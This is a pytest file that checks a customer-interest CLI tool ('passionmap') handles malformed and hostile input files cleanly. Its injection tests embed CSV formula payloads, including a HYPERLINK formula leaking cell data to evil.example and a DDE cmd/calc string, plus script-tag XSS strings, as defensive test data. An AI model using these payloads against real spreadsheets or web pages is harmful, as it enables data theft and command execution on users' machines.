"""Hostile input, end to end through ``passionmap run``: every case ends cleanly.

Each case writes a generated file and runs the command line on it (in
process, blank spaCy model). It must end in one of two ways:

* exit code 2, exactly one line on stderr (``passionmap: error: ...``) naming
  the file and the problem, no traceback, and no output folder or temporary
  file left behind; or
* a finished run where ``rows_read == rows_used + rows_rejected`` in
  summary.json and every rejected record is in rejects.csv with its reason.

The same outcomes are listed for users in docs/input_cases.md (README "Input").
"""

from __future__ import annotations

import csv
import functools
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from passionmap import pipeline
from passionmap.cli import main
from passionmap.io.export import FORMULA_START
from passionmap.nlp.nlp import load_nlp

BLANK = ("--model", "blank", "--no-progress")
OUTPUTS = {"clusters.csv", "customers.csv", "graph.gexf", "mentions.parquet", "rejects.csv"}


@functools.lru_cache(maxsize=4)
def _cached_nlp(*args):
    return load_nlp(*args)


@pytest.fixture(autouse=True)
def _load_model_once(monkeypatch):
    """In-process runs share one loaded pipeline per model (an unknown one still fails)."""
    monkeypatch.setattr(pipeline, "load_nlp", _cached_nlp, raising=False)


def cli(capsys, *args) -> tuple[int, str, str]:
    """Run ``passionmap ARGS`` in this process; (exit code, stdout, stderr)."""
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def csv_rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def table(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


# ------------------------------------------------------------------ generated files
def rows(*lines: str) -> str:
    return "".join(line + "\n" for line in lines)


BASE = rows(
    "customer_id,text",
    "ann,I love sourdough baking and hiking",
    "bob,yoga every morning and hiking on sundays",
)
WORDS = "zoë,Crème brûlée and sourdough baking in the café\nann,hiking and yoga\n"


def parquet_wrong_types(path: Path) -> None:
    """Ids as integers, text as integers and nulls, timestamps as ints, ages as strings."""
    pq.write_table(
        pa.table(
            {
                "customer_id": pa.array([101, 102, 103, None]),
                "text": pa.array([15, None, 7, 8]),
                "timestamp": pa.array([1, 2, 3, 4]),
                "age": pa.array(["x", "30", None, "-1"]),
            }
        ),
        path,
    )


def parquet_list_text(path: Path) -> None:
    """Float ids, list-typed text (one null), booleans as timestamps."""
    pq.write_table(
        pa.table(
            {
                "customer_id": pa.array([1.0, 2.0, 3.5]),
                "text": pa.array([[1, 2], [3], None], type=pa.list_(pa.int64())),
                "timestamp": pa.array([True, False, None]),
            }
        ),
        path,
    )


def customers_has(*ids: str) -> Callable[[Path], None]:
    def check(out: Path) -> None:
        assert set(ids) <= set(table(out / "customers.csv")["customer_id"])

    return check


def ages_nulled(out: Path) -> None:
    ages = table(out / "customers.csv").set_index("customer_id")["age"]
    assert ages["neg"] == "" and ages["old"] == "" and ages["word"] == ""
    assert float(ages["ok"]) == 42


def ids_made_unique(out: Path) -> None:
    ids = pd.read_parquet(out / "mentions.parquet")["comment_id"]
    assert {"7", "7#2", "7#3"} <= set(ids)


def long_comment_cut(out: Path) -> None:
    mentions = pd.read_parquet(out / "mentions.parquet")
    assert mentions["end"].max() <= 5000  # nothing found beyond the cut


def multiline_kept(out: Path) -> None:
    text = table(out / "rejects.csv").set_index("record").loc["2", "text"]
    assert text == 'line one\nline two, with a comma and "quotes"'


def swallowed_lines_shown(out: Path) -> None:
    text = table(out / "rejects.csv").set_index("record").loc["2", "text"]
    assert "cat,baking" in text  # the lines the open quote swallowed are in plain sight


@dataclass
class Case:
    """One hostile input and the outcome a user must see."""

    id: str
    name: str  # the input file's name
    content: bytes | str | Callable[[Path], None] | None  # None: no file at all
    error: str | None = None  # a failing case: text the one stderr line holds
    read: int | None = None  # a finished run: rows_read, rows_used, rows_rejected
    used: int | None = None
    rejected: int = 0
    reasons: dict[int, str] = field(default_factory=dict)  # record -> part of its reason
    stats: dict = field(default_factory=dict)  # summary.json entries
    check: Callable[[Path], None] | None = None  # more checks on the output folder
    args: tuple[str, ...] = ()

    def write(self, path: Path) -> None:
        if self.content is None:
            return
        if callable(self.content):
            self.content(path)
        elif isinstance(self.content, str):
            path.write_bytes(self.content.encode("utf-8"))
        else:
            path.write_bytes(self.content)


CASES = [
    # ---------------------------------------------------------- stops the run
    Case("empty file", "in.csv", b"", error="empty file"),
    Case("only whitespace", "in.csv", b"  \n\n\t\n", error="empty file"),
    Case("header only", "in.csv", "customer_id,text\n", error="header only"),
    Case(
        "no text column",
        "in.csv",
        "customer_id,comment\nann,hello\n",
        error="no text column 'text' (columns: customer_id, comment); map yours with --text-col",
    ),
    Case("no customer column", "in.csv", "who,text\nann,hi\n", error="--customer-col"),
    Case("random bytes", "in.csv", random.Random(1).randbytes(5000), error="not a text file"),
    Case(
        "random bytes, no NUL",
        "in.txt",
        bytes(b for b in random.Random(2).randbytes(8000) if b),
        error="not a text file",
    ),
    Case("random bytes as JSONL", "in.jsonl", random.Random(3).randbytes(4000), error="not a text"),
    Case(
        "random bytes as Parquet",
        "in.parquet",
        random.Random(4).randbytes(4000),
        error="cannot read as Parquet",
    ),
    Case("JSONL, every line broken", "in.jsonl", "{oops\n[1,\n", error="no JSON objects"),
    Case("input path does not exist", "missing.csv", None, error="file does not exist"),
    Case("input is a folder", "folder.csv", lambda p: p.mkdir(), error="is a directory"),
    Case("unknown encoding", "in.csv", BASE, error="unknown encoding", args=("--encoding", "x-9")),
    Case(
        "unknown model",
        "in.csv",
        BASE,
        error="xx_no_such_model",
        args=("--model", "xx_no_such_model"),
    ),
    # ---------------------------------------------------------- repaired, all rows kept
    Case(
        "UTF-16 with BOM",
        "in.csv",
        ("customer_id,text\n" + WORDS).encode("utf-16"),
        read=2,
        used=2,
        stats={"encoding": "utf-16"},
        check=customers_has("zoë", "ann"),
    ),
    Case(
        "UTF-16 without BOM",
        "in.csv",
        ("customer_id,text\n" + WORDS).encode("utf-16-le"),
        read=2,
        used=2,
        stats={"encoding": "utf-16-le"},
        check=customers_has("zoë"),
    ),
    Case(
        "Latin-1",
        "in.csv",
        ("customer_id,text\n" + WORDS).encode("latin-1"),
        read=2,
        used=2,
        check=customers_has("zoë"),
    ),
    Case(
        "UTF-8 BOM",
        "in.csv",
        ("customer_id,text\n" + WORDS).encode("utf-8-sig"),
        read=2,
        used=2,
        stats={"encoding": "utf-8-sig", "columns": {"customer_id": "customer_id"}},
        check=customers_has("zoë"),
    ),
    Case(
        "old Mac line ends (CR only)",
        "in.csv",
        BASE.replace("\n", "\r"),
        read=2,
        used=2,
        check=customers_has("ann", "bob"),
    ),
    Case(
        "stray NUL byte",
        "in.csv",
        BASE.replace("sourdough", "sour\x00dough"),
        read=2,
        used=2,
        check=customers_has("ann", "bob"),
    ),
    Case(
        "semicolons in a .csv",
        "in.csv",
        BASE.replace(",", ";"),
        read=2,
        used=2,
        stats={"format": "csv"},
    ),
    Case(
        "impossible dates and words as dates",
        "in.csv",
        rows(
            "customer_id,text,timestamp",
            "a,yoga,2026-02-31",
            "b,hiking,yesterday",
            "c,baking,31/31/2026",
            "d,knitting,2026-02-03",
            "e,sourdough,",
        ),
        read=5,
        used=5,
        stats={"bad_timestamps": 3},
    ),
    Case(
        "negative and absurd ages",
        "in.csv",
        rows(
            "customer_id,text,age",
            "neg,yoga,-5",
            "old,hiking,999",
            "word,baking,forty",
            "ok,knitting,42",
            "none,sourdough,",
        ),
        read=5,
        used=5,
        stats={"bad_ages": 3},
        check=ages_nulled,
    ),
    Case(
        "duplicate comment ids",
        "in.csv",
        rows(
            "comment_id,customer_id,text",
            "7,ann,I love yoga",
            "7,bob,I love yoga",
            "7,cat,I love yoga",
            "8,dan,I love yoga",
        ),
        read=4,
        used=4,
        stats={"duplicate_ids": 2},
        check=ids_made_unique,
    ),
    Case(
        "a 1 MB comment",
        "in.csv",
        "customer_id,text\nann," + "sourdough " * 100_000 + "\nbob,hiking\n",
        read=2,
        used=2,
        stats={"truncated_texts": 1},
        check=long_comment_cut,
    ),
    Case(
        "lone surrogate in JSON",
        "in.jsonl",
        '{"customer_id": "ann\\ud83d", "text": "yoga \\ud83d and hiking"}\n'
        '{"customer_id": "bob", "text": "hiking"}\n',
        read=2,
        used=2,
        check=customers_has("ann\ufffd", "bob"),
    ),
    # ---------------------------------------------------------- rejected with a reason
    Case(
        "blank text and blank customer",
        "in.csv",
        rows("customer_id,text", "ann,hello yoga", "bob,   ", ",no customer here", "  ,"),
        read=4,
        used=1,
        rejected=3,
        reasons={2: "empty text", 3: "no customer id", 4: "empty text"},
    ),
    Case(
        "quoted fields with newlines, commas and quotes",
        "in.csv",
        'customer_id,text\nann,"yoga, hiking\nand ""more"""\n'
        ',"line one\nline two, with a comma and ""quotes"""\nbob,plain hiking\n',
        read=3,
        used=2,
        rejected=1,
        reasons={2: "no customer id"},
        check=multiline_kept,
    ),
    Case(
        "wrong number of fields",
        "in.csv",
        rows("customer_id,text", "ann,yoga,extra field", "bob,hiking", "cat"),
        read=3,
        used=1,
        rejected=2,
        reasons={1: "expected 2 fields, found 3", 3: "expected 2 fields, found 1"},
    ),
    Case(
        "unterminated quote",
        "in.csv",
        'customer_id,text\nann,yoga\nbob,"hiking and never closed\ncat,baking\n',
        read=2,
        used=1,
        rejected=1,
        reasons={2: "unterminated quote"},
        check=swallowed_lines_shown,
    ),
    Case(
        "JSONL with a broken line",
        "in.jsonl",
        '{"customer_id": "ann", "text": "yoga"}\n'
        '{"customer_id": "bob", "text": \n'
        "\n"
        '["not", "an", "object"]\n'
        '{"customer_id": "cat", "text": "hiking"}\n',
        read=4,
        used=2,
        rejected=2,
        reasons={2: "invalid JSON", 3: "not an object"},
    ),
    Case(
        "Parquet with the wrong types",
        "in.parquet",
        parquet_wrong_types,
        read=4,
        used=2,
        rejected=2,
        reasons={2: "empty text", 4: "no customer id"},
        stats={"bad_timestamps": 2, "bad_ages": 1},  # ints are no dates; "x" no age
        check=customers_has("101", "103"),
    ),
    Case(
        "Parquet with list-typed text",
        "in.parquet",
        parquet_list_text,
        read=3,
        used=2,
        rejected=1,
        reasons={3: "empty text"},
        check=customers_has("1", "2"),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input_ends_cleanly(case, tmp_path, capsys):
    path = tmp_path / case.name
    case.write(path)
    out = tmp_path / "out"
    before = set(tmp_path.iterdir())
    # a case's own --model replaces the blank one (not given twice: that adds a warning line)
    base = () if "--model" in case.args else BLANK
    code, stdout, stderr = cli(capsys, "run", path, "--out", out, *base, *case.args)
    if case.error is not None:
        lines = stderr.strip().splitlines()
        assert code == 2, stderr
        assert len(lines) == 1 and "Traceback" not in stderr, stderr
        assert lines[0].startswith("passionmap: error: ")
        assert case.error in lines[0]
        if case.id not in ("unknown model", "unknown encoding"):
            assert case.name in lines[0]  # names the file
        assert set(tmp_path.iterdir()) == before  # nothing half-written
        return
    assert code == 0, stderr
    summary = json.loads((out / "summary.json").read_text())
    assert summary["rows_read"] == summary["rows_used"] + summary["rows_rejected"]
    assert (summary["rows_read"], summary["rows_used"], summary["rows_rejected"]) == (
        case.read,
        case.used,
        case.rejected,
    )
    for key, value in case.stats.items():
        if isinstance(value, dict):
            assert value.items() <= summary[key].items()
        else:
            assert summary[key] == value, key
    rejects = csv_rows(out / "rejects.csv")
    assert len(rejects) == summary["rows_rejected"]
    assert all(r["reason"] for r in rejects)
    got = {int(r["record"]): r["reason"] for r in rejects}
    assert got.keys() == case.reasons.keys()
    for record, reason in case.reasons.items():
        assert reason in got[record]
    assert OUTPUTS <= {p.name for p in out.iterdir()}
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    if case.check is not None:
        case.check(out)


# ------------------------------------------------------------------ the output folder
def test_output_under_a_file_stops_before_any_work(tmp_path, capsys, monkeypatch):
    (tmp_path / "in.csv").write_text(BASE)
    (tmp_path / "a_file").write_text("mine")
    monkeypatch.chdir(tmp_path)
    code, stdout, err = cli(capsys, "run", "in.csv", "--out", "a_file/out", *BLANK)
    assert code == 2 and stdout == ""
    assert err.count("\n") == 1 and "a_file/out: cannot write the output folder" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a_file", "in.csv"]
    assert (tmp_path / "a_file").read_text() == "mine"


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root may write anywhere")
def test_read_only_output_parent_is_exit_2(tmp_path, capsys):
    (tmp_path / "in.csv").write_text(BASE)
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        code, _, err = cli(capsys, "run", tmp_path / "in.csv", "--out", locked / "out", *BLANK)
    finally:
        locked.chmod(0o700)
    assert code == 2 and "cannot write the output folder" in err
    assert list(locked.iterdir()) == []


@pytest.mark.parametrize("target", ["a file", "a folder of other files"])
def test_output_that_is_not_ours_is_never_replaced(tmp_path, capsys, target):
    (tmp_path / "in.csv").write_text(BASE)
    out = tmp_path / "data"
    if target == "a file":
        out.write_text("precious")
    else:
        out.mkdir()
        (out / "raw.csv").write_text("precious")
    code, _, err = cli(capsys, "run", tmp_path / "in.csv", "--out", out, *BLANK)
    assert code == 2 and len(err.strip().splitlines()) == 1
    assert "cannot write the output folder" in err or "holds other files" in err
    precious = out if target == "a file" else out / "raw.csv"
    assert precious.read_text() == "precious"


def test_rerun_replaces_previous_output(tmp_path, capsys):
    (tmp_path / "in.csv").write_text(BASE)
    out = tmp_path / "out"
    assert cli(capsys, "run", tmp_path / "in.csv", "--out", out, *BLANK)[0] == 0
    (tmp_path / "in.csv").write_text(BASE + "cat,knitting and yoga\n")
    assert cli(capsys, "run", tmp_path / "in.csv", "--out", out, *BLANK)[0] == 0
    assert json.loads((out / "summary.json").read_text())["rows_read"] == 3
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out"]


# ------------------------------------------------------------------ injection
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click") sourdough',
    "+1 yoga is the best",
    "-2 hiking trips this week",
    "@SUM(1+1) knitting",
    "\t=cmd|' /C calc'!A0 tab first, then baking",
    "\r=1+1 carriage return, then yoga",
    "<script>alert(1)</script> I love sourdough",
    "XML breakers ]]> & <![CDATA[ x ]]> \x01\x02\x0b\x1f\x7f and hiking",
]
HOSTILE_IDS = [
    "=cmd|' /C calc'!A0",
    "+44 20",
    "-1",
    "@me",
    "<script>alert(1)</script>",
    "]]>&x\x01",
]


def hostile_csv(path: Path) -> None:
    """Hostile text from hostile customers; two of them rejected so rejects.csv holds text."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["customer_id", "text"])
    for i, text in enumerate(HOSTILE_TEXTS):
        w.writerow([HOSTILE_IDS[i % len(HOSTILE_IDS)], text])
        w.writerow(["", text])  # rejected: no customer id, the text lands in rejects.csv
        w.writerow([f"plain{i}", text.replace("<script>", "")])
    path.write_text(buf.getvalue(), encoding="utf-8")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_hostile_text_is_neutralised_in_every_output(tmp_path, capsys):
    hostile_csv(tmp_path / "in.csv")
    out = tmp_path / "out"
    code, _, err = cli(capsys, "run", tmp_path / "in.csv", "--out", out, *BLANK)
    assert code == 0, err
    csvs = sorted(out.glob("*.csv"))
    assert {"customers.csv", "rejects.csv", "clusters.csv"} <= {p.name for p in csvs}
    cells = 0
    for path in csvs:
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    cells += 1
                    assert not cell.startswith(FORMULA_START) or is_number(cell), (path.name, cell)
    assert cells > 50
    customers = set(table(out / "customers.csv")["customer_id"])
    assert {"'=cmd|' /C calc'!A0", "'+44 20", "'-1", "'@me"} <= customers
    rejected = table(out / "rejects.csv")["text"].tolist()
    assert rejected[0].startswith("'=HYPERLINK(")
    assert any(t.startswith("'\t=cmd") or t.startswith("'=cmd") for t in rejected)

    raw = (out / "graph.gexf").read_text(encoding="utf-8")
    assert "<script>" not in raw
    root = ET.fromstring(raw)  # valid XML despite ]]>, & and control characters
    ids = {n.get("id") for n in root.iter() if n.tag.endswith("}node")}
    assert "customer:<script>alert(1)</script>" in ids
    assert "customer:]]>&x" in ids  # the control character is gone, the rest kept


# ------------------------------------------------------------------ never half-written
def big_input(path: Path, n: int = 15000) -> None:
    """Enough comments for several seconds of work with the blank model."""
    topics = ["sourdough baking", "trail running", "yoga", "knitting", "craft beer", "hiking"]
    where = ["on instagram", "in the facebook group", "on reddit", "in the newsletter"]
    lines = ["customer_id,text"]
    for i in range(n):
        lines.append(
            f"c{i % 3000},I love {topics[i % 6]} and {topics[(i * 7) % 6]} {where[i % 4]} #{i}"
        )
    path.write_text("\n".join(lines) + "\n")


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGKILL], ids=["SIGINT", "SIGKILL"])
def test_killed_run_leaves_previous_output_intact(tmp_path, tmp_path_factory, capsys, sig):
    """Temporary folders live beside the output (``.<name>.tmp-<pid>-*``): none may remain."""
    (tmp_path / "small.csv").write_text(BASE)
    out = tmp_path / "out"
    assert cli(capsys, "run", tmp_path / "small.csv", "--out", out, *BLANK)[0] == 0
    good = snapshot(out)
    big_input(tmp_path / "big.csv")
    before = sorted(p.name for p in tmp_path.iterdir())

    # progress bars on: the "extract" bar tells when processing has started
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "passionmap.cli",
            "run",
            "big.csv",
            "--out",
            "out",
            "--model",
            "blank",
        ],
        cwd=tmp_path,
        env={**os.environ, "PASSIONMAP_CACHE_DIR": str(tmp_path_factory.mktemp("cache"))},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        # a user's Ctrl-C, as from a terminal: a suite started in the background by a
        # non-interactive shell (`make test &`) has SIGINT ignored, and an ignored
        # signal is inherited across exec, so the run would never see it
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    seen = bytearray()
    started = threading.Event()

    def watch() -> None:
        while chunk := proc.stderr.read1(4096):
            seen.extend(chunk)
            if b"extract" in seen:
                started.set()

    reader = threading.Thread(target=watch, daemon=True)
    reader.start()
    assert started.wait(60), seen.decode(errors="replace")
    time.sleep(0.5)  # midway through extraction
    assert proc.poll() is None, "the run finished before it could be killed"
    proc.send_signal(sig)
    code = proc.wait(30)
    reader.join(5)
    if sig == signal.SIGINT:
        assert code == 130, seen.decode(errors="replace")[-2000:]
        assert b"interrupted; previous outputs left as they were" in seen
        assert b"Traceback" not in seen
    else:
        assert code == -signal.SIGKILL
    assert snapshot(out) == good  # same files, same bytes
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no temp folders


def test_leftovers_of_a_killed_write_are_cleaned_up_by_the_next_run(tmp_path, capsys):
    """A SIGKILL between the two renames of the swap: the next run puts things right."""
    (tmp_path / "in.csv").write_text(BASE)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale_tmp = tmp_path / f".out.tmp-{dead.pid}-abc123"
    stale_tmp.mkdir()
    (stale_tmp / "customers.csv").write_text("half")
    old = tmp_path / f".out.old-{dead.pid}"  # the previous output, moved aside, not back
    old.mkdir()
    (old / "summary.json").write_text("{}")
    assert cli(capsys, "run", tmp_path / "in.csv", "--out", tmp_path / "out", *BLANK)[0] == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out"]
    assert json.loads((tmp_path / "out" / "summary.json").read_text())["rows_read"] == 2


# ------------------------------------------------------------------ deterministic
def test_shuffled_input_gives_identical_tables(tmp_path, capsys):
    from passionmap.datasets.sample import write_sample

    path = write_sample(tmp_path / "s.csv", customers=150, seed=3)
    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    df.sample(frac=1, random_state=11).to_csv(tmp_path / "shuffled.csv", index=False)
    for name in ("s.csv", "shuffled.csv"):
        assert (
            cli(capsys, "run", tmp_path / name, "--out", tmp_path / f"out_{name}", *BLANK)[0] == 0
        )
    a, b = tmp_path / "out_s.csv", tmp_path / "out_shuffled.csv"
    assert len(table(a / "clusters.csv")) >= 2
    for name in ("customers.csv", "clusters.csv"):
        assert (a / name).read_bytes() == (b / name).read_bytes(), name


# ------------------------------------------------------------------ privacy
KEY = "k3y-that-must-never-leak-0123456789"
SECRET_IDS = ["alice.smith@example.com", "BOB-CUSTOMER-4471", "carol_jones_1980"]
SECRET_TEXT = "my unlisted home address is 12 Quiet Lane"


def private_csv(path: Path) -> None:
    lines = ["customer_id,text"]
    for i in range(30):
        who = SECRET_IDS[i % 3]
        lines.append(f"{who},I love sourdough baking and yoga on instagram {i}")
    lines.append(f",{SECRET_TEXT}")  # rejected: text would land in rejects.csv
    lines.append(f"{SECRET_IDS[0]},broken,too,many")  # rejected: raw line holds the id
    path.write_text("\n".join(lines) + "\n")


def every_output_text(out: Path) -> str:
    """All output files as text (Parquet read back, it may compress strings)."""
    parts = []
    for path in sorted(out.rglob("*")):
        if path.suffix == ".parquet":
            parts.append(pd.read_parquet(path).to_csv())
        elif path.is_file():
            parts.append(path.read_text(encoding="utf-8"))
    return "\n".join(parts)


def test_pseudonymize_and_no_text_leak_nothing(tmp_path, capsys, monkeypatch):
    private_csv(tmp_path / "in.csv")
    monkeypatch.setenv("PASSIONMAP_KEY", KEY)
    out = tmp_path / "out"
    args = ("run", tmp_path / "in.csv", "--out", out, *BLANK, "--pseudonymize", "--no-text")
    code, stdout, err = cli(capsys, *args)
    assert code == 0, err
    everything = every_output_text(out)
    for secret in [KEY, *SECRET_IDS, SECRET_TEXT, "too,many"]:
        assert secret not in everything, secret
    assert KEY not in stdout + err
    pseudo = re.compile(r"p_[0-9a-f]{16}")
    customers = table(out / "customers.csv")["customer_id"]
    assert len(customers) == 3 and customers.map(pseudo.fullmatch).all()
    mentions = pd.read_parquet(out / "mentions.parquet")
    assert set(mentions["customer_id"]) == set(customers)
    nodes = [n.get("id") for n in ET.parse(out / "graph.gexf").iter() if n.tag.endswith("}node")]
    assert {n.split(":", 1)[1] for n in nodes if n.startswith("customer:")} == set(customers)
    rejects = table(out / "rejects.csv")
    assert rejects["record"].tolist() == ["31", "32"] and (rejects["text"] == "").all()
    config = json.loads((out / "summary.json").read_text())["config"]
    assert config["pseudonymize"] is True and config["no_text"] is True

    # the same key from a file gives the same pseudonyms; another key, others
    monkeypatch.delenv("PASSIONMAP_KEY")
    (tmp_path / "key").write_text(KEY + "\n")
    again = tmp_path / "again"
    assert cli(capsys, *args[:3], again, *args[4:], "--key-file", tmp_path / "key")[0] == 0
    assert table(again / "customers.csv")["customer_id"].tolist() == customers.tolist()
    monkeypatch.setenv("PASSIONMAP_KEY", KEY[::-1])
    other = tmp_path / "other"
    assert cli(capsys, *args[:3], other, *args[4:])[0] == 0
    assert not set(table(other / "customers.csv")["customer_id"]) & set(customers)


@pytest.mark.parametrize(
    "extra, env, expected",
    [
        ((), None, "set the environment variable PASSIONMAP_KEY or give --key-file"),
        (("--key-file", "nokey.txt"), None, "nokey.txt: cannot read the key file"),
        ((), "short", "too short"),
    ],
    ids=["no key", "missing key file", "short key"],
)
def test_pseudonymize_without_a_usable_key_is_exit_2(
    tmp_path, capsys, monkeypatch, extra, env, expected
):
    (tmp_path / "in.csv").write_text(BASE)
    monkeypatch.delenv("PASSIONMAP_KEY", raising=False)
    if env:
        monkeypatch.setenv("PASSIONMAP_KEY", env)
    monkeypatch.chdir(tmp_path)
    code, _, err = cli(capsys, "run", "in.csv", "--out", "out", *BLANK, "--pseudonymize", *extra)
    assert code == 2 and len(err.strip().splitlines()) == 1 and expected in err
    assert not (tmp_path / "out").exists()


@pytest.mark.slow
def test_report_escapes_script_and_keeps_ids_pseudonymous(tmp_path, monkeypatch):
    """One rendered weekly report: user text escaped, no real id and no key anywhere."""
    from passionmap.datasets.sample import write_sample

    path = write_sample(tmp_path / "s.csv", customers=80, seed=2)
    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    real = {c: f"REAL-{c}-id" for c in df["customer_id"].unique()}
    df["customer_id"] = df["customer_id"].map(real)
    df["text"] = "<script>alert(1)</script> " + df["text"]
    df.to_csv(path, index=False)
    monkeypatch.setenv("PASSIONMAP_KEY", KEY)
    code = main(
        ["report", str(path), "--out", str(tmp_path / "rep"), "--model", "blank", "--pseudonymize"]
    )
    assert code == 0
    html = next((tmp_path / "rep").glob("*.html")).read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    everything = every_output_text(tmp_path / "rep")
    assert KEY not in everything
    assert not [r for r in real.values() if r in everything]
    notebook = json.loads(next((tmp_path / "rep").glob("*.ipynb")).read_text())
    options = notebook["metadata"]["papermill"]["parameters"]["options"]
    assert options["pseudonymize"] is True  # the kernel read the ids pseudonymised too


@pytest.mark.slow
def test_report_with_no_text_shows_no_comment(tmp_path):
    """--no-text on report: the weekly report quotes no comment."""
    from passionmap.datasets.sample import write_sample

    path = write_sample(tmp_path / "s.csv", customers=80, seed=2)
    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    df["text"] = df["text"] + " Zanzibar-secret-phrase."
    df.to_csv(path, index=False)
    out = tmp_path / "rep"
    assert main(["report", str(path), "--out", str(out), "--model", "blank", "--no-text"]) == 0
    html = next(out.glob("*.html")).read_text(encoding="utf-8")
    assert "In their own words" in html and "left out of this report" in html
    assert "Zanzibar-secret-phrase" not in html


# ------------------------------------------------------------------ the other files and options
IN_CSV = b"customer_id,text\nc1,I love my guitar\nc2,bouldering and golf\n"
SIDE_CASES = {
    # name: (files to write {name: bytes}, arguments, what the one line says)
    "no customers": (
        {},
        ("sample", "--out", "{tmp}/s.csv", "--customers", "0"),
        "expected a positive number",
    ),  # fmt: skip
    "no weeks": (
        {},
        ("sample", "--out", "{tmp}/s.csv", "--weeks", "-1"),
        "expected a positive number",
    ),  # fmt: skip
    "sample into a folder": ({"d/x": b""}, ("sample", "--out", "{tmp}/d"), "is a folder"),
    "patterns not JSON": (
        {"in.csv": IN_CSV, "p.jsonl": b'{"pattern": "bouldering", "id": "climbing"\n'},
        ("run", "{tmp}/in.csv", "--out", "{tmp}/o", *BLANK, "--patterns", "{tmp}/p.jsonl"),
        "p.jsonl:1: not a JSON object",
    ),
    "pattern without id": (
        {"in.csv": IN_CSV, "p.jsonl": b'{"label": "INTEREST", "pattern": "bouldering"}\n'},
        ("run", "{tmp}/in.csv", "--out", "{tmp}/o", *BLANK, "--patterns", "{tmp}/p.jsonl"),
        'p.jsonl:1: a pattern line needs "pattern" and "id"',
    ),
    "stop terms not UTF-8": (
        {"in.csv": IN_CSV, "s.txt": b"caf\xe9 latte\n"},
        ("run", "{tmp}/in.csv", "--out", "{tmp}/o", *BLANK, "--stop-terms", "{tmp}/s.txt"),
        "s.txt: stop terms must be UTF-8 text",
    ),
}


@pytest.mark.parametrize("name", list(SIDE_CASES))
def test_bad_side_files_and_options_are_one_line(name, tmp_path, capsys):
    """A user's side file or a sample size that cannot be used: one line, exit 2."""
    files, args, said = SIDE_CASES[name]
    for rel, data in files.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_bytes(data)
    try:
        code, _, stderr = cli(capsys, *(a.format(tmp=tmp_path) for a in args))
    except SystemExit as stop:  # argparse's own check of an option
        code, stderr = stop.code, capsys.readouterr().err
    lines = stderr.strip().splitlines()
    assert code == 2 and len(lines) == 1 and "Traceback" not in stderr, stderr
    assert said in lines[0], lines[0]


def test_side_files_saved_with_a_byte_order_mark_are_read(tmp_path, capsys):
    """Windows Notepad starts a UTF-8 file with a BOM: a pattern file failed to parse and a
    stop term read as "\\ufeffguitar" (never matched). The user's stop term overrules the
    lexicon: "guitar" is a pattern, and stopped it is no interest."""
    (tmp_path / "in.csv").write_bytes(IN_CSV)
    (tmp_path / "p.jsonl").write_bytes(b'\xef\xbb\xbf{"pattern": "bouldering", "id": "climbing"}\n')
    (tmp_path / "s.txt").write_bytes(b"\xef\xbb\xbfguitar\n")
    side = ("--patterns", tmp_path / "p.jsonl", "--stop-terms", tmp_path / "s.txt")
    code, _, stderr = cli(
        capsys, "run", tmp_path / "in.csv", "--out", tmp_path / "o", *BLANK, *side
    )
    assert code == 0, stderr
    tops = {
        r["customer_id"]: r["top_interests"] for r in csv_rows(tmp_path / "o" / "customers.csv")
    }
    assert "climbing" in tops["c2"] and "guitar" not in tops["c1"], tops
